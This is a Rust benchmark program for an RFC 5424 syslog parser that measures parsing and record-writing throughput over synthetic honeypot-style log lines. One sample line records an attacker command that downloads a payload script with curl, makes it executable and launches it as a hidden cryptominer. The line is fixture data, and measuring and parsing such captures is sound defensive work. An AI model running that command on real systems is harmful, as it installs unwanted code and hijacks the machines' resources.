//! Prints how many lines a second one core parses, and turns into records.
//!
//! `cargo run --release -p rfc5424 --example throughput [SECONDS]`

#![expect(clippy::print_stdout, reason = "a program for people to run")]
#![expect(clippy::disallowed_methods, reason = "measures time")]

use std::{
    hint::black_box,
    time::{Duration, Instant},
};

use rfc5424::{
    Timestamp,
    decnet::{Class, Extras, Source, classify},
};

fn main() {
    let seconds = std::env::args()
        .nth(1)
        .and_then(|text| text.parse().ok())
        .unwrap_or(1.0);
    let lines = lines();
    let octets: usize = lines.iter().map(Vec::len).sum();
    println!(
        "{} lines of {} octets on average",
        lines.len(),
        octets / lines.len()
    );
    let mut out = Vec::new();
    let source = Source {
        worker: "w1",
        stream: "decky",
        epoch: "0123456789abcdef0123456789abcdef",
        offset: 1 << 33,
    };
    let extras = Extras {
        fallback_time: Timestamp::new(0, 0),
        source: Some(source),
        ..Extras::default()
    };
    measure("parse, strict", seconds, &lines, |line| {
        black_box(rfc5424::parse(line).is_ok());
    });
    measure("classify", seconds, &lines, |line| {
        black_box(matches!(classify(line), Class::Record(_)));
    });
    measure("classify + record", seconds, &lines, |line| {
        if out.len() > 1 << 20 {
            out.clear();
        }
        if let Class::Record(record) = classify(line) {
            record.write_json(&mut out, &extras);
        }
    });
}

/// Runs `work` over all lines until the time is up, and prints the median and the best of many
/// short runs, by the thread's own processor time: other programs' load shows less.
fn measure(what: &str, seconds: f64, lines: &[Vec<u8>], mut work: impl FnMut(&[u8])) {
    let end = Instant::now() + Duration::from_secs_f64(seconds);
    let mut runs = Vec::new();
    while runs.is_empty() || Instant::now() < end {
        let start = processor_ns();
        for _ in 0..PASSES {
            lines.iter().for_each(|line| work(line));
        }
        runs.push((processor_ns() - start) as f64 / (PASSES * lines.len()) as f64);
    }
    runs.sort_by(f64::total_cmp);
    let (median, best) = (runs[runs.len() / 2], runs[0]);
    println!(
        "{what:<18} median {:.2} million lines/s ({median:.0} ns a line), best {:.2}",
        1e3 / median,
        1e3 / best
    );
}

/// Passes over the lines in one run: some tens of milliseconds, as the kernel's clock is coarse.
const PASSES: usize = 400;

/// What the kernel says this thread has used.
fn processor_ns() -> u64 {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|text| text.split(' ').next()?.parse().ok())
        .expect("Linux with schedstat")
}

/// Lines of the usual shapes, 230 octets on average.
fn lines() -> Vec<Vec<u8>> {
    let head = |second: u32, rest: &str| {
        format!("<134>1 2026-06-20T14:03:{second:02}.125301+00:00 {rest}").into_bytes()
    };
    (0..60)
        .flat_map(|second| {
            [
                head(second, r#"SRV-DELTA-77 auth-helper - auth_attempt [relay@55555 username="root" principal="root" secret_printable="p\"a\\s\]s" secret_b64="cCJhXHNdcw==" src_ip="203.0.113.44" src_port="50122" client="SSH-2.0-libssh_0.9.6"]"#),
                head(second, r#"omega-decky http - request [relay@55555 method="POST" path="/wp-login.php" remote_addr="198.51.100.7" headers="{\"Host\": \"10.0.0.5\", \"User-Agent\": \"curl/8.5.0\"}" body="log=admin&pwd=hunter2" principal="admin" secret_kind="plaintext"]"#),
                head(second, r#"relay-decky ftp - connection [relay@55555 src_ip="2001:db8::7" src_port="50122" transport="tcp" banner="220 ProFTPD 1.3.5 Server (Debian) ready" session="0d4bb7a2-9c1e-4f0a-8d3e-5a0d4c1b2e77"]"#),
                head(second, r#"plant-gw mqtt - publish [relay@55555 src="192.0.2.10" topic="plant/line-4/temperature" payload="{\"value\": 20.5, \"unit\": \"C\"}" qos="1" retain="False" client_id="sensor-0042" user="operator"]"#),
                head(second, "omega-decky bash - - -  CMD uid=0 user=root src=203.0.113.44 pwd=/root cmd=curl -fsSL http://198.51.100.23/payload.sh -o /tmp/.x && chmod +x /tmp/.x && nohup /tmp/.x --pool stratum+tcp://pool.example:3333 &"),
            ]
        })
        .collect()
}
